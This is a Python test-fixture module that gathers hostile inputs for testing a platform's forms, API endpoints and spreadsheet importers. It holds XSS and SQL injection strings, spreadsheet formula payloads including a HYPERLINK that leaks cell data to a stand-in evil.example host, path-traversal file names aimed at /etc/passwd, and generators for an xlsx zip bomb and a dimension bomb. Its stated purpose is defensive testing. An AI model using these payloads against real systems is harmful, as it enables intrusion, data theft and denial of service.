"""Hostile inputs, in one place, for forms, API create/update endpoints and importers.

Each entry is something a careless or malicious user really sends. The tests say what must become of it:
refused with a 4xx or a form error, or stored inert (exactly as typed, escaped wherever it is shown,
neutralised in exports), and never a half-written record.
"""
import io
import zipfile

# Text that is markup or SQL: stored as typed, escaped on every page, never executed.
MARKUP = [
    "<script>alert('1121')</script>",
    '"><img src=x onerror=alert(document.domain)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% debug %}",  # template syntax in data is only text
]
SQL = [
    "' OR '1'='1' --",
    "'; DROP TABLE platform_organisation; --",
    "1; SELECT pg_sleep(5)",
    "\\'; --",
]
# Cells a spreadsheet would run: neutralised by platform_core.exports in every export.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Characters that break naive code: NUL, bidi override, zero-width, surrogate-free emoji, combining marks.
ODD_TEXT = [
    "秦岭\u202e司公限有\u202c",
    "零\u200b宽\u200d字符",
    "emoji 🔋⚡️🧪",
    "e\u0301\u0301\u0301",
]
NUL = "name with NUL \x00 inside"
TEXTS = MARKUP + SQL + FORMULAS + ODD_TEXT

# Values of the wrong type for a text, number, date or id field.
WRONG_TYPES = [None, [], {}, ["a", "b"], {"$gt": ""}, True, 12345, 1e308, -1, 2 ** 63, "NaN", "Infinity"]
WRONG_NUMBERS = ["NaN", "Infinity", "-Infinity", "1e400", "12abc", " ", "1,000,000", [], {}, True,
                 2 ** 80, -(2 ** 80), "9" * 40]
WRONG_DATES = ["2024-02-30", "2024-13-01", "0000-00-00", "99999-01-01", "2024/01/01T25:61", "tomorrow", 20240101,
               [], {}]
WRONG_IDS = ["1 OR 1=1", "../1", "-1", "0", "9" * 30, "1.5", "null", [1], {"id": 1}, True]


def oversized(limit: int) -> list[str]:
    """Just over a field's limit, far over it, and a megabyte."""
    return ["甲" * (limit + 1), "a" * (limit * 10), "长" * 1_000_000]


# File names a browser or a script can send.
TRAVERSAL_NAMES = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\boot.ini",
    "....//....//etc/hosts",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "report.pdf\x00.html",
    "evil.html",
    "<script>alert(1)</script>.pdf",
    "\u202etxt.exe",
    "a" * 400 + ".pdf",
]

# CSV text in the encodings people's spreadsheets save in.
ENCODINGS = ["utf-8", "utf-8-sig", "gbk", "gb18030"]


def wrong_mime_files() -> list[tuple[str, bytes]]:
    """Files whose name promises a spreadsheet and whose content is something else."""
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 64
    return [
        ("organisations.xlsx", png),
        ("organisations.xlsx", b"MZ\x90\x00" + b"\x00" * 200),  # a Windows executable
        ("organisations.csv", b"\x00\x01\x02\x03\xff\xfe\xfd" * 100),  # binary noise
        ("organisations.xlsx", b"PK\x03\x04 not really a zip"),
        ("organisations.csv", "<html><script>alert(1)</script></html>".encode()),
        ("organisations.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),  # an OLE2 shell, no workbook
    ]


def zip_bomb(uncompressed_mb: int = 200) -> bytes:
    """An xlsx-shaped zip whose one sheet inflates from ~200 KB to `uncompressed_mb` MB of shared nothing."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                        b'spreadsheetml/2006/main"><sheetData>')
            chunk = b" " * (1024 * 1024)
            for _ in range(uncompressed_mb):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


def dimension_bomb(rows: int = 1_048_576, columns: str = "XFD") -> bytes:
    """A tiny xlsx whose sheet declares the whole grid (A1:XFD1048576) and holds one cell far away."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _CONTENT_TYPES)
        archive.writestr("_rels/.rels", _ROOT_RELS)
        archive.writestr("xl/workbook.xml", _WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main"><dimension ref="A1:{columns}{rows}"/><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>名称</t></is></c><c r="B1" t="inlineStr"><is><t>类型</t></is>'
            f'</c></row><row r="{rows}"><c r="{columns}{rows}" t="inlineStr"><is><t>x</t></is></c></row>'
            '</sheetData></worksheet>'))
    return buffer.getvalue()


_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
    '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
_WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
